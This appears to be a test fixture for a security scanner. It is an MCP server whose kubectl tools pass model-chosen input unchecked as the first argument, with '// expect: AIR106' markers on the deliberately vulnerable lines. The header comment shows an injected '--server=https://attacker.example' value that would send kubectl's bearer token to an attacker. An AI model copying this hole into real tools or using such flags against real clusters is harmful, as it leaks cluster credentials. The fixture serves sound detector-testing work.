// case: a cluster server runs kubectl without a shell (`execFileSync("kubectl", args)`), so the
// model cannot start another command, but the resource type it chooses is the first argument
// after `get`: `--server=https://attacker.example` or `--kubeconfig=...` is read as an option,
// and kubectl sends its bearer token wherever the option points (CWE-88). The list grows by
// `push`, and the flag-and-value pairs that follow are safe.
import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { execFileSync } from "node:child_process";
import { z } from "zod";

const server = new McpServer({ name: "cluster", version: "1.0.0" });

server.tool(
  "get_resources",
  { resourceType: z.string(), namespace: z.string().optional() },
  async ({ resourceType, namespace }) => {
    const args = ["get", resourceType];
    if (namespace) {
      args.push("-n", namespace);
    }
    args.push("-o", "json");
    const out = execFileSync("kubectl", args, { encoding: "utf8" }); // expect: AIR106
    return { content: [{ type: "text", text: out }] };
  },
);

server.tool(
  "describe",
  { kind: z.string() },
  async ({ kind }) => {
    const out = execFileSync("kubectl", ["describe", kind], { encoding: "utf8" }); // expect: AIR106
    return { content: [{ type: "text", text: out }] };
  },
);
